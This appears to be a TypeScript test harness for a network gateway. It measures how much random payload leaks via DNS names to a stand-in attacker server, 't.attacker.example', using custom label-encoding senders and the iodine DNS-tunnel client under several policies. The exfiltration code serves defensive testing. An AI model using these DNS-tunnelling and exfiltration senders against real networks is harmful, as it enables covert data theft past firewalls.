import { spawn, spawnSync } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { randomBytes } from 'node:crypto'
import { connect } from 'node:net'
import { fileURLToPath } from 'node:url'
import { NAME_PROFILES } from '#firewall/names/name-profiles.js'
import { findProgram } from './workers/find-program.js'
import { SENDERS, type Sender } from './workers/leak-senders.js'
import { startLeakServer } from './workers/leak-server.js'
import { startWorker } from './workers/processes.js'
import { table } from './workers/statistics.js'

// How much data reaches an attacker's name server in names: sent by the real iodine and in the way of other tools, each with a
// new gateway, under policies with exact names and with wildcards. The proxy is asked for each name too, because only the
// proxy looks names up outside, and its name server is the attacker's.
//
// iodine needs port 53 and a tun device, so everything runs in its own network namespace. In a sandbox, iodine would not even
// start, because there is no tun device.

const DOMAIN = 't.attacker.example'
const PAYLOAD = 4096
const IODINE_TYPES = ['NULL', 'PRIVATE', 'TXT', 'SRV', 'MX', 'CNAME', 'A']
const IODINE_CODECS = ['Base32', 'Base64', 'Base64u', 'Base128']
const IODINE_SECONDS = 3

/** Null for no gateway: the sandbox uses the attacker's server directly. This control proves that the senders work. */
const POLICIES = [
  { title: 'no gateway', allow: null, names: null },
  { title: 'exact', allow: 'host: api.example.com', names: null },
  ...(['default', 'strict', 'random-labels'] as const).map((profile) => ({
    title: `** ${profile}`,
    allow: `host: "**.${DOMAIN}"\n    name_limits: { profile: ${profile} }`,
    names: NAME_PROFILES[profile],
  })),
]

if (process.argv[2] !== 'inside') {
  const args = ['--map-root-user', '--net', process.execPath, fileURLToPath(import.meta.url), 'inside']
  process.exit(spawnSync('unshare', args, { stdio: 'inherit' }).status ?? 1)
}
spawnSync('ip', ['link', 'set', 'lo', 'up'])

const iodined = findProgram('iodined')
const TUNNEL_PORT = 5353
if (iodined !== null) {
  const args = ['-f', '-P', 'secret', '-p', String(TUNNEL_PORT), '-l', '127.0.0.1', '10.99.0.1', DOMAIN]
  const server = spawn(iodined, args, { stdio: 'ignore' })
  process.once('exit', () => server.kill())
}

/** Runs one sender with a new gateway, and returns the distinct names that arrived and their bytes. */
async function attack(
  allow: string | null,
  send: (gateway: Ports) => Promise<void>,
): Promise<{ names: number; bytes: number }> {
  const attacker = await startLeakServer(DOMAIN, TUNNEL_PORT, allow === null ? 53 : 0)
  const policy = `dns: { rate: { per_second: 100000, burst: 100000 } }
upstream: { servers: ["127.0.0.1:${String(attacker.port)}"] }
allow:
  - scheme: http
    allow_private_addresses: true
    ${allow ?? ''}
`
  const gateway = allow === null ? null : await startWorker<Ports>('dns-exfiltration-gateway', [policy])
  await send(gateway?.ready ?? { dns: 53, http: 80 })
  await gateway?.stop()
  attacker.close()
  const names = [...attacker.names]
  return { names: names.length, bytes: names.join('').length }
}

interface Ports {
  readonly dns: number
  readonly http: number
}

/** Sends the payload name by name, to the resolver and to the proxy. */
async function sendAll({ bytes, labels }: Sender, gateway: Ports): Promise<void> {
  const socket = createSocket('udp4')
  const payload = randomBytes(PAYLOAD)
  for (let index = 0; index * bytes < PAYLOAD; index += 1) {
    const open = labels(payload.subarray(index * bytes, (index + 1) * bytes), index)
    await ask(socket, gateway.dns, `${open}.${DOMAIN}`)
    // Whatever the resolver answers, because an attacker can skip it.
    await request(gateway.http, `${open}.${DOMAIN}`)
  }
  socket.close()
}

function ask(socket: ReturnType<typeof createSocket>, port: number, name: string): Promise<void> {
  const labels = name.split('.').map((label) => Buffer.from(label, 'latin1'))
  const wire = labels.flatMap((label) => [Buffer.of(label.length & 0x3f), label.subarray(0, 63)])
  const head = Buffer.from('123401000001000000000000', 'hex')
  const query = Buffer.concat([head, ...wire, Buffer.from('0000010001', 'hex')])
  return new Promise((resolve) => {
    const settle = () => {
      clearTimeout(timer)
      socket.off('message', settle)
      resolve()
    }
    const timer = setTimeout(settle, 100)
    socket.on('message', settle)
    socket.send(query, port, '127.0.0.1')
  })
}

function request(port: number, host: string): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => {
      socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`, 'latin1')
    })
    socket.setTimeout(100, () => socket.destroy())
    socket.on('data', () => undefined).on('error', () => undefined)
    socket.once('close', () => resolve())
  })
}

/** The real client, until it exits or the time is over. */
function runIodine(program: string, type: string, codec: string): Promise<void> {
  const args = ['-f', '-r', '-P', 'secret', '-T', type, '-O', codec, '127.0.0.1', DOMAIN]
  const client = spawn('timeout', [String(IODINE_SECONDS), program, ...args], { stdio: 'ignore' })
  return new Promise((resolve) => client.once('exit', () => resolve()))
}

const iodine = findProgram('iodine')
const rows: string[][] = []
let broken = 0
async function row(name: string, send: (gateway: Ports) => Promise<void>): Promise<void> {
  const cells = [name]
  for (const { allow, names } of POLICIES) {
    const leaked = await attack(allow, send)
    const { names: maxNames, bytes: maxBytes } = names?.budget ?? { names: 0, bytes: 0 }
    // Without a gateway, data must arrive; otherwise the sender did not work.
    const passed = allow === null ? leaked.bytes > 0 : leaked.names <= maxNames && leaked.bytes <= maxBytes
    if (!passed) broken += 1
    cells.push(`${String(leaked.bytes)} in ${String(leaked.names)}${passed ? '' : ' BROKEN'}`)
  }
  rows.push(cells)
}

for (const sender of SENDERS) await row(sender.name, (gateway) => sendAll(sender, gateway))
if (iodine !== null && iodined !== null) {
  for (const type of IODINE_TYPES) await row(`iodine -T ${type}`, () => runIodine(iodine, type, 'Base32'))
  for (const codec of IODINE_CODECS.slice(1))
    await row(`iodine -T A -O ${codec}`, () => runIodine(iodine, 'A', codec))
} else process.stdout.write('iodine is not installed: skipped\n')

process.stdout.write(
  `Bytes and names that reached the attacker's name server, for ${String(PAYLOAD)} bytes of payload\n`,
)
process.stdout.write(table(['', ...POLICIES.map(({ title }) => title)], rows))
const budgets = POLICIES.map(({ allow, names }) =>
  allow === null
    ? ''
    : names === null
      ? '0'
      : `${String(names.budget.bytes)} in ${String(names.budget.names)}`,
)
process.stdout.write(table(['', ...budgets], [['upper bound of each policy, above']]))
process.exit(broken > 0 ? 1 : 0)
